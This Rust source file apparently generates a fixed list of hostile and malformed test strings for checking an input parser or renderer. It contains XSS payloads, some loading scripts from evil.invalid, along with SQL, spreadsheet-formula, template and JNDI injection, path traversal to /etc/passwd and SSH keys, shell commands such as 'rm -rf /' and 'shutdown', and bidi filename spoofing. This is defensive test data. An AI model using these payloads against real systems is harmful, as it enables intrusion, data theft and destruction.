//! Five hundred texts that have broken some program somewhere, as JSON strings: those that want to be run or obeyed, and those that only
//! want to be shown. Makes texts; checks nothing.

/// A text, as JSON with its quotes, and whether a bundle's reader must set it aside.
pub struct Text {
    pub json: String,
    pub aside: bool,
}

/// What a text calls if it is ever run; `N` is its number.
const CALLS: [&str; 4] = ["dvkRan(N)", "top['dvkRan'](N)", "alert(N)", "self[`dvkRan`](N)"];

/// Places in a page where a call may stand.
const TAGS: [&str; 40] = [
    "<script>CALL</script>",
    "\"><script>CALL</script>",
    "'><script>CALL</script>",
    "</script><script>CALL</script>",
    "<ScRiPt>CALL</sCrIpT>",
    "<script src=//evil.invalid/N.js></script>",
    "<script type=module>import 'data:text/javascript,CALL'</script>",
    "<img src=x onerror=CALL>",
    "\"><img src=x onerror=\"CALL\">",
    "<img src=//evil.invalid/N.png>",
    "<img/src='x'/onerror=CALL>",
    "<IMG SRC=\"jav&#x09;ascript:CALL\">",
    "<svg onload=CALL>",
    "<svg/onload=CALL//",
    "<svg><script>CALL</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x>",
    "<body onload=CALL>",
    "<iframe src=\"javascript:CALL\"></iframe>",
    "<iframe srcdoc=\"<script>CALL</script>\"></iframe>",
    "<a href=\"javascript:CALL\">x</a>",
    "<details open ontoggle=CALL>",
    "<input autofocus onfocus=CALL>",
    "<video><source onerror=CALL></video>",
    "<audio src=x onerror=CALL>",
    "<style>@import '//evil.invalid/N.css';</style>",
    "<link rel=stylesheet href=//evil.invalid/N.css>",
    "<base href=//evil.invalid/N/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:CALL\">",
    "<object data=\"javascript:CALL\">",
    "<embed src=\"data:text/html,<script>CALL</script>\">",
    "<form action=\"javascript:CALL\"><button>x</button></form>",
    "<marquee onstart=CALL>x</marquee>",
    "<math><mtext></p><img src=x onerror=CALL></math>",
    "</textarea><img src=x onerror=CALL>",
    "</title><img src=x onerror=CALL>",
    "--><img src=x onerror=CALL>",
    "]]><img src=x onerror=CALL>",
    "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">",
    "<template shadowrootmode=open><img src=x onerror=CALL></template>",
    "<div style=\"background:url(//evil.invalid/N)\">x</div>",
];

const HANDLERS: &str = "onclick ondblclick onmousedown onmouseup onmouseover onmousemove onmouseout onkeydown onkeyup onfocus onblur onchange \
    oninput onsubmit onreset onselect onload onunload onerror onresize onscroll onwheel oncopy oncut onpaste ondrag ondrop ontoggle \
    onanimationstart onanimationend ontransitionend onpointerdown onpointerenter onfocusin onbeforeinput oncontextmenu oninvalid onplay oncanplay onhashchange";

const ADDRESSES: [&str; 20] = [
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    "java\tscript:CALL",
    "java\nscript:CALL",
    " javascript:CALL",
    "javascript://%0aCALL",
    "javascript&colon;CALL",
    "data:text/html,<script>CALL</script>",
    "data:text/html;base64,PHNjcmlwdD5kdmtSYW4oMCk8L3NjcmlwdD4=",
    "vbscript:CALL",
    "blob:null/N",
    "file:///etc/passwd",
    "//evil.invalid/N",
    "https://evil.invalid/?N",
    "view-source:javascript:CALL",
    "livescript:CALL",
    "feed:javascript:CALL",
    "#/settings?x=javascript:CALL",
    "#/models/../../N",
    "%6aavascript:CALL",
];

const TEMPLATES: [&str; 20] = [
    "{{constructor.constructor('CALL')()}}",
    "${CALL}",
    "#{CALL}",
    "<%= CALL %>",
    "{% CALL %}",
    "[[${CALL}]]",
    "{{7*7}}",
    "${7*7}",
    "{{=CALL}}",
    "@(CALL)",
    "$(CALL)",
    "`CALL`",
    "';CALL;//",
    "\";CALL;//",
    "\\';CALL;//",
    "*/CALL/*",
    "<!--#exec cmd=\"CALL\"-->",
    "<?php CALL ?>",
    "${jndi:ldap://evil.invalid/N}",
    "{{#with this}}CALL{{/with}}",
];

const ORDERS: [&str; 80] = [
    "' OR '1'='1",
    "'; DROP TABLE events;--",
    "\" OR \"\"=\"",
    "1; SELECT pg_sleep(9)",
    "admin'--",
    "' UNION SELECT NULL,NULL--",
    "%' OR 1=1 --",
    "\\'; EXEC xp_cmdshell('dir');--",
    "1/**/OR/**/1=1",
    "0x50",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=HYPERLINK(\"https://evil.invalid\")",
    "=IMPORTXML(\"//evil.invalid\")",
    "\t=1+1",
    "=DDE(\"cmd\")",
    ";=1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "....//....//etc",
    "/dev/null",
    "C:\\CON\\CON",
    "NUL.json",
    "file.json%00.exe",
    "~/.ssh/id_rsa",
    "a/b\\c:d*e?f\"g<h>i|j",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "__defineGetter__",
    "[object Object]",
    "undefined",
    "null",
    "%s%s%s%s%n",
    "%x%x%x%x",
    "%99999999d",
    "{0}{1}{2}",
    "{}",
    "{:?}",
    "%(a)s",
    "$1$2\\1\\2",
    "%",
    "%%%",
    "; rm -rf /",
    "| cat /etc/passwd",
    "`id`",
    "$(id)",
    "&& shutdown -h now",
    "\\\\evil.invalid\\share",
    "-rf",
    "--help",
    "> /tmp/x",
    "\"; id; \"",
    "NaN",
    "Infinity",
    "-0",
    "1e400",
    "0.1",
    "9007199254740993",
    "true",
    "false",
    "0",
    "-1",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "&lt;script&gt;CALL&lt;/script&gt;",
    "&#60;img src=x onerror=CALL&#62;",
    "&amp;&nbsp;&copy;",
    "\u{FF1C}script\u{FF1E}CALL\u{FF1C}/script\u{FF1E}",
    "*)(uid=*))(|(uid=*",
    "\\u003cscript\\u003eCALL",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-CALL",
    "<svg\u{A0}onload=CALL>",
];

const LETTERS: [&str; 40] = [
    "\u{200B}",
    "a\u{200B}b\u{200C}c\u{200D}d",
    "\u{FEFF}a",
    "a\u{2060}b",
    "\u{AD}\u{AD}",
    "\u{2028}a",
    "\u{2029}a",
    "\u{A0}\u{A0}",
    "\u{3000}\u{3000}",
    "\u{180E}a",
    "\u{34F}a",
    "\u{115F}\u{1160}",
    "\u{E0041}\u{E0042}",
    "\u{FFF9}a\u{FFFA}b\u{FFFB}",
    "\u{200E}a\u{200F}b",
    "\u{61C}a",
    "שלום עולם",
    "مرحبا بالعالم",
    "abc שלום 123 مرحبا",
    "\u{FDFD}",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈🏴‍☠️",
    "👩🏽‍🚀👨🏿‍⚕️",
    "🇻🇳🇻🇳🇻",
    "0️⃣1️⃣#️⃣",
    "🫨🪿🫎",
    "𝕯𝖆𝖓 𝖁𝖆𝖓",
    "Ⓓⓐⓝ",
    "Ｄâｎ ｖận",
    "ﷺ",
    "𠜎𠜱𠝹",
    "\u{1F3FB}",
    "раураl",
    "Đặng Thị Nghiêng",
    "Dân vận khéo",
    "ẲẴẦẪỔỖ",
    "ﬀﬁﬂ",
    "ǅǈǋ",
    "İıſK",
    "\u{10FFFD}\u{E000}",
];

/// The texts, in an order that stays.
pub fn texts() -> Vec<Text> {
    let mut all: Vec<(String, bool)> = Vec::new();
    let plain = |all: &mut Vec<(String, bool)>, text: &str| {
        // Each tag comes with another call in each round.
        let (number, call) = (all.len().to_string(), CALLS[(all.len() + all.len() / TAGS.len()) % CALLS.len()]);
        let text = text.replace("/N", &format!("/{number}")).replace("CALL", &call.replace('N', &number));
        let json = serde_json::Value::from(text).to_string();
        all.push((json, false));
    };
    for _ in CALLS {
        TAGS.iter().for_each(|tag| plain(&mut all, tag));
    }
    HANDLERS.split_whitespace().for_each(|handler| plain(&mut all, &format!("\" {handler}=CALL x=\"")));
    HANDLERS
        .split_whitespace()
        .for_each(|handler| plain(&mut all, &format!("<p {handler}='CALL' tabindex=0 autofocus>x")));
    for list in [&ADDRESSES[..], &TEMPLATES, &ORDERS, &LETTERS] {
        list.iter().for_each(|text| plain(&mut all, text));
    }
    for length in [100, 500, 1_000, 5_000, 20_000] {
        for letter in ["W", "ệ", "👨‍👩‍👧", "a\u{301}\u{302}\u{303}\u{304}", "<b>"] {
            let count = length / letter.chars().count();
            plain(&mut all, &letter.repeat(count));
        }
    }
    for floods in [10, 50, 200, 1_000] {
        let accents: String = (0..floods).map(|n| char::from_u32(0x300 + n % 0x70).unwrap_or('x')).collect();
        ["o", "Z̸", "ل"].iter().for_each(|letter| plain(&mut all, &format!("{letter}{accents}")));
    }
    all.extend(aside());
    all.into_iter().map(|(json, aside)| Text { json, aside }).collect()
}

/// Texts that no bundle may hold.
fn aside() -> Vec<(String, bool)> {
    let turning = (0x202A..=0x202E).chain(0x2066..=0x2069).flat_map(|code| {
        let mark = char::from_u32(code).unwrap_or('x');
        [format!("\"anh{mark}gpj.exe\""), format!("\"\\u{code:04x}{mark}<script>dvkRan(0)</script>\"")]
    });
    let controls = (0..0x20).filter(|code| ![9, 10].contains(code)).map(|code| format!("\"a\\u{code:04x}b\""));
    let halves = ["d800", "dbff", "dc00", "dfff", "d800x", "dc00\\ud800", "d83d", "d83d\\u0041"]
        .map(|half| format!("\"\\u{half}\""));
    let long = ["x", "ế", "👩"].map(|letter| format!("\"{}\"", letter.repeat(20_001)));
    let broken =
        ["\"\\x41\"", "\"\\u12\"", "\"a\tb\"", "\"\\\"", "\"", "'a'", "\"a\" \"b\"", "\"a\"b", "undefined", "NaN"]
            .map(str::to_owned);
    turning.chain(controls).chain(halves).chain(long).chain(broken).map(|json| (json, true)).collect()
}
